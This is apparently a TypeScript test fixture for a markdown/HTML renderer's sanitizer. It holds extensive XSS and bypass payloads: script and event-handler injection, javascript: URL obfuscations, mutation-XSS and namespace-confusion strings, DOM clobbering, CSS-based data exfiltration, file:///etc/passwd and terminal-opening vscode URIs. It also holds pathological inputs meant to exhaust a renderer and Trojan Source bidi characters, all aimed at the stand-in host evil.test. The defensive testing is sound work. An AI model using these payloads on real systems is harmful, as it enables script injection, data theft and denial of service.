/** The host of all external addresses in the attacks. The tests record every request. */
const evil = "https://evil.test";
const tab = "\t";
const nul = "\0";

/** Scripts that must not run and addresses that must not be fetched, in the known ways to bypass a sanitizer. Scripts call `ran`. */
export const attacks: Record<string, string> = {
  scripts: `<script>ran("script")</script>\n\n<SCRIPT SRC=${evil}/a.js></SCRIPT>\n\n<script/x>ran(1)</script >\n\n<scr<script>ipt>ran(2)</scr</script>ipt>\n\n<script type=module>import "${evil}/m.js"</script>\n\n<script type=importmap>{"imports":{"a":"${evil}/b.js"}}</script>`,
  handlers: `<img src=x onerror=ran(1)>\n\n<b onclick="ran(2)" onmouseover=ran(3) tabindex=1 autofocus onfocus=ran(4)>b</b>\n\n<details open ontoggle=ran(5)><summary onclick=ran(6)>s</summary></details>\n\n<p/onpointerenter=ran(7)>x</p>\n\ntext <i style="animation: x" onanimationstart='ran(8)'>i</i> <span${tab}onclick${tab}=${tab}"ran(9)">s</span>\n\n<div popover id=p onbeforetoggle=ran(10)>p</div><button popovertarget=p>x</button>`,
  media: `<video src=${evil}/v poster=${evil}/p.png onerror=ran(1)></video>\n\n<audio src=${evil}/a autoplay onplay=ran(2)></audio>\n\n<picture><source srcset="${evil}/s.png 1x"><img srcset="${evil}/t.png 2x" sizes=1px></picture>\n\n<video><source src=${evil}/w onerror=ran(3)><track src=${evil}/t default></video>\n\n<img lowsrc=${evil}/l dynsrc=${evil}/d>\n\n<input type=image src=${evil}/i.png>\n\n<body background=${evil}/b.png>\n\n<table background=${evil}/t.png><tr><td background=${evil}/u.png>x</td></tr></table>`,
  frames: `<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>\n\n<iframe src="javascript:parent.ran(2)"></iframe>\n\n<frameset><frame src=${evil}/f></frameset>\n\n<object data=${evil}/o type=text/html>fallback <img src=${evil}/x></object>\n\n<embed src=${evil}/e>\n\n<applet code=A archive=${evil}/a.jar></applet>\n\n<portal src=${evil}/p></portal>\n\n<fencedframe src=${evil}/f></fencedframe>`,
  documents: `<base href=${evil}/>\n\n<a href=relative>r</a> <img src=relative.png>\n\n<meta http-equiv=refresh content="0;url=${evil}/r">\n\n<meta http-equiv=Content-Security-Policy content="default-src *">\n\n<link rel=stylesheet href=${evil}/s.css>\n\n<link rel=prefetch href=${evil}/p>\n\n<link rel=dns-prefetch href=//evil.test>\n\n<html manifest=${evil}/m><head><title>taken</title></head><body onload=ran(1)>b`,
  styles: `<style>@import "${evil}/i.css"; body{background:url(${evil}/b.png)} input[value^=a]{background:url(${evil}/a)}</style>\n\n<p style="background:url(${evil}/p.png); position:fixed; inset:0; z-index:99">covers</p>\n\n<style>@font-face{font-family:x;src:url(${evil}/f.woff);unicode-range:U+0041}</style>\n\n<div style="content:url(${evil}/c)">A</div>\n\n<style>*{behavior:url(${evil}/x.htc)}</style>\n\n<b class="chat composer send">b</b><style><!--</style><img src=${evil}/z onerror=ran(1)>-->`,
  forms: `<form action=${evil}/f><input name=q value=secret><button formaction="javascript:ran(1)">Go</button><input type=submit formaction=${evil}/g></form>\n\n<isindex action=${evil}/h type=image>\n\n<form id=f action="javascript:ran(2)"></form><button form=f>x</button>\n\n<textarea name=t>x</textarea><select onchange=ran(3)><option>1</select><keygen autofocus onfocus=ran(4)>`,
  links: [
    ...[
      "javascript:ran(1)",
      "JaVaScRiPt:ran(1)",
      "java&Tab;script:ran(1)",
      "java&NewLine;script:ran(1)",
      "&#106;avascript:ran(1)",
    ],
    ...[
      "&#x6A&#x61;vascript&colon;ran(1)",
      "%6aavascript:ran(1)",
      "\u0001javascript:ran(1)",
      " javascript:ran(1)",
      "javascript&#0000058ran(1)",
    ],
    ...[
      "vbscript:ran(1)",
      "data:text/html,<script>ran(1)</script>",
      "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    ],
    ...[
      "command:workbench.action.terminal.new",
      "vscode:extension/evil.evil",
      "vscode-insiders://evil",
      "file:///etc/passwd",
      "blob:https://evil.test/1",
    ],
    ...[
      "view-source:https://evil.test",
      "filesystem:https://evil.test/x",
      "intent://evil",
      "feed:javascript:ran(1)",
      "x-apple:javascript",
      `//evil.test/x`,
      "\\\\evil.test\\share",
      "ms-msdt:/id",
    ],
    ...[
      "javascript\u00a0:ran(1)",
      "java\u00adscript:ran(1)",
      "jav\u200bascript:ran(1)",
      `java${nul}script:ran(1)`,
      "javascript://%0aran(1)",
      "javascript://https://a.b/%0aran(1)",
    ],
  ]
    .map(
      (url, at) =>
        `[l${at}](${url}) [m${at}](<${url}>) [n${at}][r${at}] <a href="${url}" target=_blank download ping=${evil}/ping>h${at}</a> <${url}> ![p${at}](${url})\n\n[r${at}]: <${url}>\n`,
    )
    .join("\n"),
  images: `![a](${evil}/a.png)\n\n![b](${evil}/b.png "t" =1x1) [![c](${evil}/c.png)](${evil}/c)\n\n![d][d]\n\n[d]: ${evil}/d.png\n\n<img src=${evil}/e.png>\n\n| ![f](${evil}/f.png) |\n|-|\n| <img src=${evil}/g.png> |\n\n<image src=${evil}/h.png>\n\n<IMG SRC=//evil.test/i.png>\n\n![](data:image/svg+xml,<svg/onload=ran(1)>)`,
  svg: `<svg onload=ran(1)><script>ran(2)</script><image href=${evil}/i.png /><use href="data:image/svg+xml,<svg id=x onload=ran(3)/>#x" /><a xlink:href="javascript:ran(4)"><text>t</text></a><animate attributeName=href to=javascript:ran(5) /><set attributeName=onmouseover to=ran(6) /><foreignObject><iframe srcdoc="<script>parent.ran(7)</script>"></iframe></foreignObject><style>@import "${evil}/s.css"</style><feImage href=${evil}/f /></svg>\n\n<svg><a><animate attributeName=href values=javascript:ran(8) /><text x=20 y=20>X</text></a></svg>`,
  namespaces: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
    "<math><mtext><table><mglyph><style><math href=javascript:ran(2)>x</math>",
    '<svg></p><style><a id="</style><img src=1 onerror=ran(3)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(4)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran(5)></style></annotation-xml></math>',
    "<svg><foreignObject><math><mi><svg><style><img src=x onerror=ran(6)>",
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=ran(7)>"></desc></svg>',
    '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=ran(8) src>">',
    '<svg><title><xmp><img title="</xmp><img src=x onerror=ran(9)>"></title></svg>',
    '<math href="javascript:ran(10)">CLICK</math><maction actiontype=statusline xlink:href="javascript:ran(11)">x</maction>',
  ].join("\n\n"),
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=ran(2)>">',
    '<xmp><p title="</xmp><img src=x onerror=ran(3)>">',
    '<textarea><p title="</textarea><img src=x onerror=ran(4)>">',
    '<title><p title="</title><img src=x onerror=ran(5)>">',
    "<template><script>ran(6)</script><template shadowrootmode=open><img src=x onerror=ran(6)></template></template>",
    "<select><template><script>ran(7)</script></template><style><img src=x onerror=ran(7)></style></select>",
    "<table><td><svg><desc><td></desc></svg></table><a href=javascript:ran(8)>x</a>",
    "<p><svg><p></p><style><!--</style><img src=x onerror=ran(9)>--></p>",
    "<!--><img src=x onerror=ran(10)>-->",
    "<!--!><img src=x onerror=ran(11)>-->",
    "<? <img src=x onerror=ran(12)> ?>",
    "<![CDATA[ <img src=x onerror=ran(13)> ]]>",
    '<a title="`<img src=x onerror=ran(14)>`">x</a> `</code><img src=x onerror=ran(15)>`',
    "<b title='\"><img src=x onerror=ran(16)>'>x</b> <b title=\"'><img src=x onerror=ran(17)>\">",
    '<img alt="<x" title="/><img src=x onerror=ran(18)>">',
    "<plaintext><img src=x onerror=ran(19)>",
    "<div is=x-evil slot=s part=p><slot name=s onslotchange=ran(20)></slot></div>",
    "<b <script>ran(21)</script>>x</b>\n\n<a\n\nhref=javascript:ran(22)>x</a>",
    "```<img src=x onerror=ran(23)>\n</code></pre><img src=x onerror=ran(24)>\n```",
    `[a](https://a.b"onclick=ran(25)//) [b](https://a.b 'x"onmouseover=ran(26)//') ![c"onerror=ran(27)](x)`,
    '<https://a.b/"onclick="ran(28)> https://a.b/<img src=x onerror=ran(29)>',
    "| a |\n|-|\n| <img src=x onerror=ran(30)> `|` <script>ran(31)</script> |\n",
    `${"<div>".repeat(600)}<style><img src=x onerror=ran(32)></style>${"</div>".repeat(600)}`,
    `${"<b><i><a href=x>".repeat(300)}<form><form><p><img src=x onerror=ran(33)>`,
  ].join("\n\n"),
  clobbering: `<a id=chat name=mount href=${evil}>a</a><a id=chat name=ready>b</a>\n\n<form id=document name=getElementById><input name=parentNode><input name=attributes><input id=childNodes></form>\n\n<img name=currentScript><img id=cookie name=body>\n\n<a id=__proto__ name=constructor>x</a> <a id="turn-t1" data-turn=t1 data-path="../../etc/passwd" data-language=x>p</a>\n\n<b aria-label="Send" role=button aria-hidden=true>x</b>`,
};

const times = (text: string, count: number): string => text.repeat(count);

/** Small texts that cost a careless renderer excessive time or memory. */
export const bombs: Record<string, string> = {
  quotes: `${times(">", 10_000)} deep`,
  lists: Array.from({ length: 1_000 }, (_, depth) => `${" ".repeat(2 * Math.min(depth, 60))}- x`).join("\n"),
  "lists in a line": `${times("- ", 10_000)}deep`,
  "lists and quotes": `${times("> - ", 5_000)}deep`,
  emphasis: times("*a **a ", 8_000),
  "closing emphasis": times("a**b_c* ", 8_000),
  underscores: times("_", 30_000),
  stars: `${times("*", 15_000)}a${times("*", 15_000)}`,
  tildes: times("~~a ", 8_000),
  brackets: times("[", 30_000),
  "open links": times("[a](", 8_000),
  "open images": times("![a](<b", 5_000),
  "nested links": `${times("[", 2_000)}a${times("](b)", 2_000)}`,
  definitions:
    Array.from({ length: 5_000 }, (_, at) => `[d${at}]: /u${at}`).join("\n") + "\n\n" + times("[d1] ", 5_000),
  "late definitions": `${Array.from({ length: 1_500 }, (_, at) => `[e${at}]`).join("\n\n")}\n\n${Array.from({ length: 1_500 }, (_, at) => `[e${at}]: /u`).join("\n")}\n`,
  "a wide table": `|${times("a|", 5_000)}\n|${times("-|", 5_000)}\n|${times("b|", 5_000)}\n`,
  "a table of short rows": `|${times("a|", 60)}\n|${times("-|", 60)}\n${times("|b\n", 3_000)}`,
  entities: times("&CounterClockwiseContourIntegral;&amp;&#38;&bogus;", 1_500),
  "open entities": times("&", 30_000),
  fences: times("`", 10_000),
  "fences of growing length": Array.from({ length: 250 }, (_, at) => "`".repeat(at + 1)).join(" a "),
  "open code": times("`a ``b ```c ", 4_000),
  "open tags": times("<", 30_000),
  "open attributes": `<a ${times('b="', 8_000)}`,
  "open comments": times("<!-- ", 6_000),
  "open elements": times("<b>", 5_000),
  tags: times("<b>x</b>", 4_000),
  "closing tags": times("</b>", 5_000),
  addresses: times("https://a.b/c ", 2_500),
  "a long address": `https://a.b/${times("(", 15_000)}`,
  mail: `${times("a.", 10_000)}@b`,
  headings: times("# a\n", 2_000),
  formulas: times("$a ", 8_000),
  "open formulas": times("\\(", 8_000),
  backslashes: times("\\", 30_000),
  blanks: `a${times(" ", 30_000)}b`,
  "blank lines": `a${times("\n", 10_000)}b`,
  tabs: times("\t", 10_000) + "a",
  "numbers of lists": times("1. a\n", 2_000),
  marks: `a${times("\u0301", 5_000)}`,
};

/** Invisible characters and bidirectional controls (Trojan Source), in text and in code. */
export const invisibleCharacters =
  "Text \u202eesrever\u202c and \u2066isolated\u2069 and \u200ehidden\u200f.\n\n`if (a\u202e\u2066// check\u2069 \u2066) {`\n\n```js\nlet s\u202etring = 1;\n/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin */\n\u001b[2Jx\u0007\u0000\u009b\n```\n\n[a\u202eb](https://a.b/\u202egpj.exe) \u200b\u2060\ufeff\u{e0041}\u{e0042}\u00ad";
